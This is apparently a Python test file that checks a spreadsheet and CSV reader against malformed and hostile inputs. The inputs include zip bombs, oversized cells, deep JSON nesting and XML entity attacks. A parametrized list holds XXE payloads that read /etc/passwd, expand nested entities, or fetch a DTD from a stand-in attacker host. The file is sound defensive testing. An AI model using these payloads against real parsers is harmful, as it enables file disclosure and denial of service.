"""Files made to break a reader: each is refused in a sentence or read for what it is, in bounded room."""

import io
import zipfile
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.exports import xlsx_chunks
from core.tabular import TableRefused, read_table
from core.tabular import workbook as workbooks

SHEET = "xl/worksheets/sheet1.xml"


def read(data: bytes) -> list[dict[str, str]]:
    return [row.values for row in read_table(io.BytesIO(data)).rows()]


def refused(data: bytes) -> str:
    with pytest.raises(TableRefused) as caught:
        read(data)
    assert "Nothing was kept" in str(caught.value)
    return caught.value.code


def workbook_with(**replaced: bytes) -> bytes:
    good = zipfile.ZipFile(io.BytesIO(b"".join(xlsx_chunks(["name"], [["A"]]))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name in good.namelist():
            package.writestr(name, replaced.get(name.rpartition("/")[2].partition(".")[0], good.read(name)))
    return out.getvalue()


@given(st.binary(max_size=300))
@settings(deadline=None, max_examples=300)
def test_any_bytes_are_read_or_refused_in_a_sentence(data: bytes) -> None:
    try:
        found = read_table(io.BytesIO(data))
        for row in found.rows():
            assert set(row.values) >= set(found.columns)
            assert "\x00" not in "".join(row.values.values())
    except TableRefused as refusal:
        assert refusal.code
        assert len(str(refusal)) < 600


@given(st.text(alphabet="ab,;\t|\"\n\r' =é", max_size=80))
@settings(deadline=None, max_examples=300)
def test_any_csv_is_read_twice_alike_or_refused(text: str) -> None:
    try:
        found = read_table(io.BytesIO(text.encode()))
    except TableRefused:
        return
    first = list(found.rows())
    problems = list(found.problems)
    assert first == list(found.rows())
    assert problems == found.problems
    assert len({row.number for row in first} | {problem.number for problem in problems}) == len(first) + len(problems)


@given(st.lists(st.text(alphabet='{}[]":,1a\\u \n', max_size=30), max_size=6))
@settings(deadline=None, max_examples=300)
def test_any_json_is_read_or_refused(lines: list[str]) -> None:
    try:
        list(read_table(io.BytesIO(("{" + "\n{".join(lines)).encode())).rows())
    except TableRefused as refusal:
        assert refusal.code in {"empty", "broken"}


@given(st.integers(0, 2_000), st.integers(0, 255))
@settings(deadline=None, max_examples=200)
def test_a_workbook_with_one_spoilt_byte_is_read_or_refused(place: int, byte: int) -> None:
    data = bytearray(xlsx_chunks_of_one())
    data[place % len(data)] = byte
    try:
        read(bytes(data))
    except TableRefused as refusal:
        assert refusal.code in {"broken", "kind", "empty", "unsafe", "encoding"}


def xlsx_chunks_of_one() -> bytes:
    return b"".join(xlsx_chunks(["name", "city"], [["A", "B"]]))


def test_zero_bytes_are_refused_by_row() -> None:
    with pytest.raises(TableRefused, match=r"Row 3 .*\(byte 9\)"):
        read(b"name\nA\nB\x00C\n".replace(b"A\n", b"\nA"))
    assert refused(b"name\nA\nB\x00C\n") == "broken"


def test_ten_thousand_columns_are_refused() -> None:
    line = ",".join(f"c{number}" for number in range(10_000))
    assert refused(f"{line}\n{line}\n".encode()) == "columns"
    header = [f"c{number}" for number in range(10_000)]
    assert refused(b"".join(xlsx_chunks(header, [header]))) == "columns"


def test_more_keys_than_any_list_has_are_refused() -> None:
    import json

    lines = "\n".join(json.dumps({f"k{line}-{key}": 1 for key in range(100)}) for line in range(20))
    assert refused(lines.encode()) == "columns"


def test_four_million_letters_after_one_odd_byte_are_looked_at_once() -> None:
    found = read_table(io.BytesIO(b"name,city\nCaf\xe9 Royal,Paris\n" + b"\n".join([b"a" * 120_000 + b",b"] * 33)))
    assert found.encoding == "cp1252"
    assert next(found.rows()).values["name"] == "Café Royal"


def test_a_number_format_of_a_hundred_thousand_brackets_is_harmless() -> None:
    from core.tabular.worksheet import date_shape

    assert date_shape(200, "[" * 100_000) == ""
    assert date_shape(200, '"' * 99_999 + "yyyy") == ""


def test_a_line_without_end_is_refused() -> None:
    assert refused(b"name,city\n" + b"x" * 1_500_000) == "broken"


def test_a_cell_longer_than_any_text_is_refused_by_its_line() -> None:
    with pytest.raises(TableRefused, match="Line 2 of this file has a cell of more than 130,000"):
        read(b"name,city\n" + b"x" * 200_000 + b",b\n")


def test_a_quotation_that_swallows_the_file_is_refused() -> None:
    assert refused(b'name,city\n"A,B\n' + b"C,D\n" * 50_000) == "broken"


def test_mixed_line_ends_are_all_line_ends() -> None:
    assert [row["a"] for row in read(b"a,b\r1,x\r\n2,x\n3,x\r4,x")] == ["1", "2", "3", "4"]


def test_deeply_nested_json_is_left_out() -> None:
    found = read_table(io.BytesIO(b'{"a":1}\n{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n"))
    assert len(list(found.rows())) == 1
    assert [problem.number for problem in found.problems] == [2]


def test_a_number_of_a_million_digits_is_only_text() -> None:
    assert read(b'{"a":' + b"9" * 1_000_000 + b'}\n{"a":1}\n')[-1] == {"a": "1"}


@pytest.mark.parametrize(
    "attack",
    [
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">',
    ],
)
@pytest.mark.parametrize("part", ["sheet1", "workbook", "styles"])
def test_document_types_and_their_entities_are_refused(attack: bytes, part: str) -> None:
    path = {"sheet1": SHEET, "workbook": "xl/workbook.xml", "styles": "xl/styles.xml"}[part]
    good = zipfile.ZipFile(io.BytesIO(xlsx_chunks_of_one())).read(path)
    head, _mark, body = good.partition(b"?>")
    assert refused(workbook_with(**{part: head + b"?>" + attack + body})) == "unsafe"


def test_a_workbook_that_would_unpack_to_far_more_is_refused() -> None:
    assert refused(workbook_with(styles=b" " * 20_000_000)) == "unsafe"


def test_too_much_in_all_is_refused(monkeypatch: Any) -> None:
    monkeypatch.setattr(workbooks, "MOST_UNPACKED", 1000)
    assert refused(xlsx_chunks_of_one()) == "unsafe"


def test_a_workbook_of_thousands_of_parts_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for number in range(6_000):
            package.writestr(f"xl/{number}.xml", b"")
    assert refused(out.getvalue()) == "unsafe"


@pytest.mark.parametrize("part", ["sheet1", "workbook", "styles"])
def test_a_part_that_is_no_xml_is_refused(part: str) -> None:
    assert refused(workbook_with(**{part: b"<worksheet><row>"})) == "broken"


def test_a_cell_far_away_takes_no_room() -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
        b'<row r="1048577"><c r="ZZZZZZZ9" t="inlineStr"><is><t>farther</t></is></c></row></sheetData></worksheet>'
    )
    found = read_table(io.BytesIO(workbook_with(sheet1=sheet)))
    assert list(found.rows()) == []
    assert [problem.number for problem in found.problems] == [1_048_576, 1_048_577]


def test_shared_texts_that_do_not_exist_are_empty() -> None:
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row><c t="inlineStr"><is><t>name</t></is></c></row><row><c t="s"><v>99</v></c></row>'
        b'<row><c t="inlineStr"><is><r><t>Gold</t></r><rPh><t>aid</t></rPh><r><t>en</t></r></is></c></row>'
        b"</sheetData></worksheet>"
    )
    assert read(workbook_with(sheet1=sheet)) == [{"name": "Golden"}]


def test_zip_archives_of_other_kinds_are_called_by_their_names() -> None:
    for name, words in (
        ("word/document.xml", ".docx"),
        ("mimetype", ".ods"),
        ("a.txt", "zip"),
        ("xl/workbook.bin", ".xlsb"),
    ):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as package:
            package.writestr(name, b"x")
        with pytest.raises(TableRefused, match=words.replace(".", r"\.")):
            read(out.getvalue())
